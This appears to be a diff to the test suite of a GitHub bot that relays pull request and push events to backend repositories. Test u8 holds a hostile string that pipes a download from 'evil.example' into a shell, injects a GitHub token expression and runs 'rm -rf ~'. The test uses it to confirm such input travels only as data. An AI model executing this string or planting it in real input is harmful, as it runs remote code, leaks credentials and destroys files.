@@ -25,14 +25,18 @@ def told(github, repo=None):
     return names if repo is None else [name for name in names if name == repo]
 
 
-async def states(bot, repo):
-    """The states of a backend's dispatches, oldest first."""
+async def recorded(bot, repo, column):
+    """What a column says of a backend's dispatches, oldest first."""
     rows = [row for row in await bot.rows("oot_dispatch") if row["backend"] == repo]
-    return [row["state"] for row in sorted(rows, key=lambda row: row["created_at"])]
+    return [row[column] for row in sorted(rows, key=lambda row: row["created_at"])]
+
+
+async def states(bot, repo):
+    return await recorded(bot, repo, "state")
 
 
 async def reasons(bot, repo):
-    return [row["error"] for row in await bot.rows("oot_dispatch") if row["backend"] == repo]
+    return await recorded(bot, repo, "error")
 
 
 async def list_backends(bot, text):
@@ -94,15 +98,18 @@ async def test_u7_the_longest_description_reaches_every_backend(bot, github, let
 
 
 async def test_u8_shell_and_expression_syntax_of_an_author_arrives_as_data(bot, github):
-    hostile = '$(curl evil.example|sh)`id`"; ${{ github.token }} \' && rm -rf ~'
+    hostile = "$(curl evil.example|sh)`id`\"; ${{ github.token }} ' && rm -rf ~"
     await github.open_pull(UPSTREAM, title=hostile, body=hostile)
     body = json.loads(json.dumps(github.deliveries[0].payload))
     body["pull_request"]["head"]["ref"] = hostile
-    await bot.send("pull_request", body)
+    await bot.send("pull_request", body, guid="hostile")
     await bot.settle()
-    pull = bot.dispatch(L4).client_payload["payload"]["pull_request"]
-    assert (pull["title"], pull["body"], pull["head"]["ref"]) == (hostile, hostile, hostile)
-    assert bot.dispatch(L4).event_type == "pull_request"
+    sent = [one for one in github.dispatches if one.client_payload["delivery_id"] == "hostile"]
+    assert {one.repo.full_name for one in sent} == {L1, L2, L3, L4}
+    for dispatch in sent:
+        assert dispatch.event_type == "pull_request"
+        pull = dispatch.client_payload["payload"]["pull_request"]
+        assert (pull["title"], pull["body"], pull["head"]["ref"]) == (hostile, hostile, hostile)
 
 
 async def test_u18_the_webhook_is_answered_before_github_is_asked_anything(bot, github):
@@ -124,7 +131,11 @@ async def test_u18_the_webhook_is_answered_before_github_is_asked_anything(bot, 
 )
 async def test_a_limit_of_github_leaves_the_dispatch_pending_until_it_is_over(bot, github, status, headers):
     github.faults.add(
-        method="POST", path=rf"{L4}/dispatches$", status=status, headers=headers, body={"message": "slow down"}
+        method="POST",
+        path=rf"{L4}/dispatches$",
+        status=status,
+        headers=headers,
+        body={"message": "slow down"},
     )
     await github.open_pull(UPSTREAM)
     await bot.settle(horizon=30)
@@ -177,7 +188,7 @@ async def test_a_draft_is_relayed_like_any_other_pull_request(bot, github):
 
 
 async def test_a_backend_taken_off_the_allowlist_is_not_told_any_more(bot, github):
-    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=503, headers={"Retry-After": "60"}, times=1)
+    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=429, headers={"Retry-After": "120"})
     await github.open_pull(UPSTREAM)
     await bot.settle()
     await list_backends(bot, f"L2: [{L2}]")
@@ -192,7 +203,7 @@ async def test_a_backend_taken_off_the_allowlist_is_not_told_any_more(bot, githu
 
 async def test_a_suspended_app_is_said_to_be_suspended(bot, github):
     github.suspend(L4, github.app)
-    pull = await github.open_pull("pytorch/pytorch")
+    pull = await github.open_pull(UPSTREAM)
     await bot.settle()
     status, conclusion, title = bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"]
     assert (status, conclusion) == ("completed", "failure")
@@ -206,6 +217,7 @@ async def test_an_app_suspended_while_its_token_is_held_is_said_to_be_suspended(
     pull = await github.open_pull(UPSTREAM)
     await bot.settle()
     github.suspend(L4, github.app)
+    bot.clock.advance(5)
     await github.push_commit(pull)
     await bot.settle()
     assert (await states(bot, L4))[-1] == "not_installed"
@@ -259,7 +271,9 @@ async def test_an_app_installed_anew_is_found_though_its_old_installation_is_rem
 
 async def test_a_pinned_backend_is_told_only_while_its_name_stands_for_it(bot, github):
     right = github.world.repo(L2).id
-    await list_backends(bot, f"L2:\n- {{repo: {L2}, repository_id: {right}}}\n- {{repo: {L1}, repository_id: 5}}\n")
+    await list_backends(
+        bot, f"L2:\n- {{repo: {L2}, repository_id: {right}}}\n- {{repo: {L1}, repository_id: 5}}\n"
+    )
     await github.open_pull(UPSTREAM)
     await bot.settle()
     assert told(github) == [L2]
@@ -333,8 +347,9 @@ async def test_another_label_lets_nothing_go(bot, github, stranger):
 async def test_a_later_commit_needs_the_label_again(bot, github, stranger):
     await github.label(stranger, OK_TO_TEST)
     await bot.settle()
+    bot.clock.advance(60)
     head = await github.push_commit(stranger)
-    await bot.settle()
+    await bot.settle(horizon=30)
     assert len(told(github, L4)) == 1
     assert bot.checks(UPSTREAM, head)["oot / gate"][2] == "needs oot/ok-to-test"
     await github.unlabel(stranger, OK_TO_TEST)
@@ -412,7 +427,11 @@ async def test_a_workflow_is_started_with_the_payload_as_its_input(bot, github):
     pull = await github.open_pull(UPSTREAM, title="Add \U0001f680", body="\U0001f680" * 65_536)
     await bot.settle()
     (sent,) = github.dispatches
-    assert (sent.event_type, sent.ref, sent.workflow) == ("workflow_dispatch", "main", ".github/workflows/upstream.yml")
+    assert (sent.event_type, sent.ref, sent.workflow) == (
+        "workflow_dispatch",
+        "main",
+        ".github/workflows/upstream.yml",
+    )
     assert sorted(sent.client_payload) == ["client_payload"]
     assert len(json.dumps(sent.client_payload)) <= MOST_CHARACTERS
     client = json.loads(sent.client_payload["client_payload"])
@@ -468,7 +487,13 @@ L4: [{L4}]
 
 @pytest.mark.parametrize(
     ("ref", "backends"),
-    [("main", [L1, L2]), ("release/2", [L1, L2]), ("topic", [L1]), ("refs/tags/v1", [L3]), ("refs/tags/x", [])],
+    [
+        ("main", [L1, L2]),
+        ("release/2", [L1, L2]),
+        ("topic", [L1]),
+        ("refs/tags/v1", [L3]),
+        ("refs/tags/x", []),
+    ],
 )
 async def test_a_push_goes_to_the_backends_whose_refs_it_matches(bot, github, ref, backends):
     await list_backends(bot, PUSHES)
